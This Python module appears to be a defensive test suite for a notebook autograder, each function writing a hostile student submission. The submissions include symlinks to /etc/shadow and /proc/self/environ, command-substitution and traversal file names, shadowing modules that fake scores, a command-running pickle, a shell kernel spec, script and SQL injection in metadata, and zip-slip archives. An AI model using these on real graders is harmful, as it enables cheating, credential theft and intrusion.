"""Attacks that lie in the files handed in, not in what a cell does.

Each function writes a hostile submission into `folder` (as `submitted/<learner>/vault`): `vault.ipynb`, made
from the bytes of an ordinary notebook, and what lies beside it. Its docstring's first line says what it tries.
Everything is bounded: no file takes more than a few hundred megabytes, however much it claims.
"""

import copy
import gzip
import inspect
import io
import json
import os
import socket
import sys
import tarfile
import zipfile
from pathlib import Path

SCRIPT = "<script>document.title = 'owned'</script>"


def load():
    """List the attacks of this module, by name."""
    module = sys.modules[__name__]
    own = [f for _, f in inspect.getmembers(module, inspect.isfunction) if f.__module__ == __name__]
    return [f for f in own if f is not load and not f.__name__.startswith("_")]


def _write(folder: Path, notebook: bytes) -> None:
    (folder / "vault.ipynb").write_bytes(notebook)


def _changed(notebook: bytes, change) -> bytes:
    nb = json.loads(notebook)
    change(nb)
    return json.dumps(nb).encode()


def _mark(cell):
    return cell["metadata"].get("nbgrader", {})


def _course(folder: Path) -> str:
    """Where the course lies, seen from a submission."""
    return os.path.relpath(folder.parent.parent.parent, folder)


def notebook_is_a_symlink(folder: Path, notebook: bytes) -> None:
    """Hands in a symbolic link to the instructor's notebook in place of a notebook."""
    (folder / "vault.ipynb").symlink_to(f"{_course(folder)}/source/vault/vault.ipynb")


def attached_symlinks(folder: Path, notebook: bytes) -> None:
    """Hands in symbolic links to the graders, to the gradebook and to the machine's files."""
    _write(folder, notebook)
    for name, target in (
        ("tests.py", f"{_course(folder)}/graders/vault/test_vault.py"),
        ("gradebook.db", f"{_course(folder)}/gradebook.db"),
        ("passwords.txt", "/etc/shadow"),
        ("environment.bin", "/proc/self/environ"),
        ("everything", _course(folder)),
        ("root", "/"),
    ):
        (folder / name).symlink_to(target)


def symlinks_in_a_circle(folder: Path, notebook: bytes) -> None:
    """Hands in folders that contain themselves through symbolic links."""
    _write(folder, notebook)
    (folder / "again").symlink_to(".")
    (folder / "data").mkdir()
    (folder / "data" / "up").symlink_to("..")
    (folder / "ping").symlink_to("pong")
    (folder / "pong").symlink_to("ping")


def attached_hard_links(folder: Path, notebook: bytes) -> None:
    """Hands in hard links to the graders, which are no symbolic links and look like files of one's own."""
    _write(folder, notebook)
    course = folder.parent.parent.parent
    for number, path in enumerate((*course.glob("graders/*/*.py"), *course.glob("gradebook.db"))):
        os.link(path, folder / f"linked{number}.py")


def folder_is_a_symlink(folder: Path, notebook: bytes) -> None:
    """Hands in a link in place of its whole folder, so that what is written for it lands elsewhere."""
    elsewhere = folder.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "vault.ipynb").write_bytes(notebook)
    folder.rmdir()
    folder.symlink_to("elsewhere")


def names_that_climb(folder: Path, notebook: bytes) -> None:
    """Hands in files whose names look like paths out of the folder, or like options and commands."""
    _write(folder, notebook)
    for name in ("..\\..\\climbed.py", "C:climbed.py", "..%2f..%2fclimbed.py", "-rf", "$(touch owned).txt", "~", " "):
        (folder / name).write_text("x")
    (folder / "...").mkdir()
    (folder / "..." / "climbed.py").write_text("x")
    (folder / "new\nline\r\x1b[31m.txt").write_text("x")
    (folder / f"{SCRIPT.replace('/', '|')}.html").write_text(SCRIPT)
    (folder / ("long" * 60)).write_text("x")


def names_that_are_no_text(folder: Path, notebook: bytes) -> None:
    """Hands in files whose names are no UTF-8, or turn the direction of writing."""
    _write(folder, notebook)
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.csv")).write_text("x")
    (folder / "\u202etxt.yp").write_text("x")
    (folder / "e\u0301.txt").write_text("x")
    (folder / "\u00e9.txt").write_text("x")


def modules_that_shadow(folder: Path, notebook: bytes) -> None:
    """Hands in modules named like those that the grader imports, and settings that tools pick up."""
    _write(folder, notebook)
    wicked = "print('score: 2')\nraise SystemExit(0)\n"
    for name in ("numpy", "gradetape", "pytest", "conftest", "sitecustomize", "test_vault", "json", "mistakes"):
        (folder / f"{name}.py").write_text(wicked)
    (folder / "nbgrader_config.py").write_text(f"open('owned.txt', 'w').write('x')\n{wicked}")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = --collect-only -p conftest\n")
    (folder / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '--collect-only'\n")
    (folder / "graders" / "vault").mkdir(parents=True)
    (folder / "graders" / "vault" / "test_vault.py").write_text("def test_double():\n    pass\n")


def a_fifo_and_a_socket(folder: Path, notebook: bytes) -> None:
    """Hands in a pipe and a socket, at which a reader waits for ever."""
    _write(folder, notebook)
    os.mkfifo(folder / "data.csv")
    before = os.getcwd()
    os.chdir(folder)  # the address of a socket is short
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.bind("line.sock")
    finally:
        os.chdir(before)


def notebook_is_a_fifo(folder: Path, notebook: bytes) -> None:
    """Hands in a pipe in place of the notebook, at which the grader waits for ever."""
    os.mkfifo(folder / "vault.ipynb")


def notebook_is_a_folder(folder: Path, notebook: bytes) -> None:
    """Hands in a folder with the notebook's name."""
    (folder / "vault.ipynb").mkdir()
    (folder / "vault.ipynb" / "vault.ipynb").write_bytes(notebook)


def files_without_rights(folder: Path, notebook: bytes) -> None:
    """Hands in files and folders that nobody may read, enter or remove."""
    _write(folder, notebook)
    (folder / "closed").mkdir()
    (folder / "closed" / "inside.txt").write_text("x")
    (folder / "closed").chmod(0o000)
    (folder / "secret.txt").write_text("x")
    (folder / "secret.txt").chmod(0o000)
    (folder / "setuid.sh").write_text("#!/bin/sh\nid\n")
    (folder / "setuid.sh").chmod(0o6777)


def oversized_notebook(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook of three hundred mebibytes, most of it the output of one cell."""

    def grow(nb):
        output = {"output_type": "stream", "name": "stdout", "text": "x" * (300 * 2**20)}
        next(c for c in nb["cells"] if c["cell_type"] == "code")["outputs"] = [output]

    _write(folder, _changed(notebook, grow))


def many_cells(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook of fifty thousand cells."""
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "outputs": [], "execution_count": None}
    _write(folder, _changed(notebook, lambda nb: nb["cells"].extend({**cell, "id": f"c{n}"} for n in range(50_000))))


def deeply_nested_notebook(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook whose metadata is nested a hundred thousand deep."""
    nested = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    made = _changed(notebook, lambda nb: nb["metadata"].update(nested="@"))
    _write(folder, made.replace(b'"@"', nested))


def deeply_nested_source(folder: Path, notebook: bytes) -> None:
    """Hands in answers nested so deep that whoever parses them overflows."""

    def nest(nb):
        for cell in nb["cells"]:
            if _mark(cell).get("grade_id") == "double_answer":
                cell["source"] = "double = " + "(" * 90_000 + "1" + ")" * 90_000
            if _mark(cell).get("grade_id") == "square_answer":
                cell["source"] = "square = " + "-" * 200_000 + "1"

    _write(folder, _changed(notebook, nest))


def numbers_beyond_measure(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook with numbers of a million digits, NaN, and keys that are there twice."""
    made = _changed(notebook, lambda nb: nb["metadata"].update(number="@"))
    made = made.replace(b'"@"', b"9" * 1_000_000)
    _write(folder, made.replace(b'{"cells"', b'{"nbformat": 9, "big": 1e999, "odd": NaN, "nbformat": 3, "cells"', 1))


def decompression_bombs(folder: Path, notebook: bytes) -> None:
    """Hands in small archives that unpack to gibibytes, and to paths outside of the folder."""
    _write(folder, notebook)
    block = b"\0" * 2**24
    with gzip.open(folder / "bomb.gz", "wb", compresslevel=9) as file:
        for _ in range(64):
            file.write(block)
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(8):
            archive.writestr(f"zeros{number}.bin", block)
        archive.writestr("../../../climbed.txt", "x")
        archive.writestr("/tmp/climbed.txt", "x")
    with tarfile.open(folder / "climbing.tar.gz", "w:gz") as archive:
        member = tarfile.TarInfo("../../../climbed.txt")
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/"
        archive.addfile(link)


def notebook_in_disguise(folder: Path, notebook: bytes) -> None:
    """Hands in a compressed bomb under the notebook's name."""
    (folder / "vault.ipynb").write_bytes(gzip.compress(b"\0" * 2**28, 9))


def arrays_that_run_code(folder: Path, notebook: bytes) -> None:
    """Hands in pickles, and arrays with pickles in them, that run a command when they are loaded."""
    _write(folder, notebook)
    payload = b"cos\nsystem\n(S'echo unpickled > owned.txt'\ntR."
    (folder / "weights.pkl").write_bytes(payload)
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    (folder / "data.npy").write_bytes(b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + payload)
    with zipfile.ZipFile(folder / "data.npz", "w") as archive:
        archive.write(folder / "data.npy", "x.npy")


def sparse_attachment(folder: Path, notebook: bytes) -> None:
    """Hands in a file that claims a tebibyte and takes no place on the disk."""
    _write(folder, notebook)
    with (folder / "data.bin").open("wb") as file:
        file.truncate(2**40)


def many_attachments(folder: Path, notebook: bytes) -> None:
    """Hands in thirty thousand small files in folders of folders."""
    _write(folder, notebook)
    for number in range(300):
        deep = folder / f"d{number}" / "e" / "f"
        deep.mkdir(parents=True)
        for part in range(100):
            (deep / f"{part}.txt").write_text("x")


def script_in_metadata(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook with scripts in its title, its authors, its cells' ids and its kernel's name."""

    def inject(nb):
        nb["metadata"].update(title=f"</title>{SCRIPT}", authors=[{"name": SCRIPT}])
        nb["metadata"]["kernelspec"] = {"display_name": SCRIPT, "language": "python", "name": f"python3{SCRIPT}"}
        nb["metadata"]["language_info"] = {"name": SCRIPT, "codemirror_mode": SCRIPT, "pygments_lexer": SCRIPT}
        for number, cell in enumerate(nb["cells"]):
            cell["id"] = f"x{number}\" onmouseover=\"document.title='owned'"
            cell["metadata"]["tags"] = [f'"><{SCRIPT}', "hide_input"]

    _write(folder, _changed(notebook, inject))


def kernel_of_ones_own(folder: Path, notebook: bytes) -> None:
    """Asks for a kernel that is a command, by name and by a kernel folder that is handed in."""

    def ask(nb):
        nb["metadata"]["kernelspec"] = {"display_name": "Python 3", "language": "bash", "name": "../../owned"}

    _write(folder, _changed(notebook, ask))
    kernels = folder / "share" / "jupyter" / "kernels" / "python3"
    kernels.mkdir(parents=True)
    spec = {"argv": ["sh", "-c", "echo ran > owned.txt"], "display_name": "Python 3", "language": "python"}
    (kernels / "kernel.json").write_text(json.dumps(spec))


def script_in_stored_outputs(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook whose stored outputs hold scripts and a verdict that announces full points."""

    def inject(nb):
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                html = f"{SCRIPT}<section class='gradetape-verdict'>double: passed (2 / 2)</section>"
                data = {"text/html": html, "text/plain": "2.0"}
                cell["outputs"] = [
                    {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1},
                ]

    _write(folder, _changed(notebook, inject))


def script_in_attachments_of_cells(folder: Path, notebook: bytes) -> None:
    """Hands in Markdown cells with attached pictures that are pages with scripts."""

    def inject(nb):
        page = {"text/html": SCRIPT, "image/svg+xml": f"<svg>{SCRIPT}</svg>"}
        cell = {"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:x.svg)", "id": "said"}
        nb["cells"].append({**cell, "attachments": {"x.svg": page, f'"{SCRIPT}': page}})

    _write(folder, _changed(notebook, inject))


def more_points_in_metadata(folder: Path, notebook: bytes) -> None:
    """Hands in graded cells that ask for a hundred points, are no tests any more, and are graded by themselves."""

    def raise_points(nb):
        for cell in nb["cells"]:
            if _mark(cell).get("grade"):
                _mark(cell).update(points=100, max_score=100, score=100, auto_score=100, locked=False)
                cell["source"] = "100.0"

    _write(folder, _changed(notebook, raise_points))


def limits_in_metadata(folder: Path, notebook: bytes) -> None:
    """Hands in a notebook that asks for endless time, memory and processes, and for no fence."""

    def ask(nb):
        limits = dict.fromkeys(("cell_seconds", "probe_seconds", "submission_seconds", "memory_bytes"), 10**12)
        nb["metadata"]["gradetape"] = {"limits": {**limits, "processes": 10**6}, "layers": [], "trust_learners": True}
        nb["metadata"]["gradetape_unreadable"] = ""
        nb["metadata"]["gradetape_result"] = {"score": 4.0, "status": "passed"}

    _write(folder, _changed(notebook, ask))


def tests_turned_into_text(folder: Path, notebook: bytes) -> None:
    """Hands in graded cells that are Markdown, are marked as demos, or come several times in other forms."""

    def turn(nb):
        for cell in list(nb["cells"]):
            if _mark(cell).get("grade_id") == "double":
                again = copy.deepcopy(cell)
                again.update(id="again", source="pass")
                nb["cells"].append(again)
                cell["cell_type"] = "markdown"
                cell["metadata"]["tags"] = ["demo"]
                cell.pop("outputs", None)
                cell.pop("execution_count", None)

    _write(folder, _changed(notebook, turn))


def answer_cell_marked_as_manual(folder: Path, notebook: bytes) -> None:
    """Hands in the automatic question marked as one that people grade, with the points already given."""

    def mark(nb):
        for cell in nb["cells"]:
            if _mark(cell).get("grade_id") == "double":
                _mark(cell).update(solution=True, task=True, points=2, score=2.0)
            if _mark(cell).get("grade_id") == "double_answer":
                _mark(cell).update(grade=True, points=2, solution=False, locked=True)

    _write(folder, _changed(notebook, mark))


def foreign_names_in_metadata(folder: Path, notebook: bytes) -> None:
    """Hands in grade_ids that are paths, statements of SQL, lists and scripts."""

    def rename(nb):
        names = ("../../gradebook", "x'; DROP TABLE grade; --", SCRIPT, ["double"], {"a": 1}, None, 10**30)
        for cell, name in zip(nb["cells"], names, strict=False):
            extra = copy.deepcopy(cell)
            extra["id"] = f"n{len(nb['cells'])}"
            extra["metadata"]["nbgrader"] = {**_mark(cell), "grade_id": name, "schema_version": 10**6}
            nb["cells"].append(extra)

    _write(folder, _changed(notebook, rename))


def another_learners_folder(folder: Path, notebook: bytes) -> None:
    """Hands in folders named like other learners and assignments, with notebooks and time stamps of their own."""
    _write(folder, notebook)
    for name in ("autograded/ada/vault", "submitted/ada/vault", "source/vault", "../vault2"):
        (folder / name).mkdir(parents=True, exist_ok=True)
        (folder / name / "vault.ipynb").write_bytes(notebook)
    (folder / "timestamp.txt").write_text("1970-01-01 00:00:00 UTC\n2 points")
    (folder / "Vault.ipynb").write_bytes(notebook)
    (folder / "vault_copy.ipynb").write_bytes(notebook)
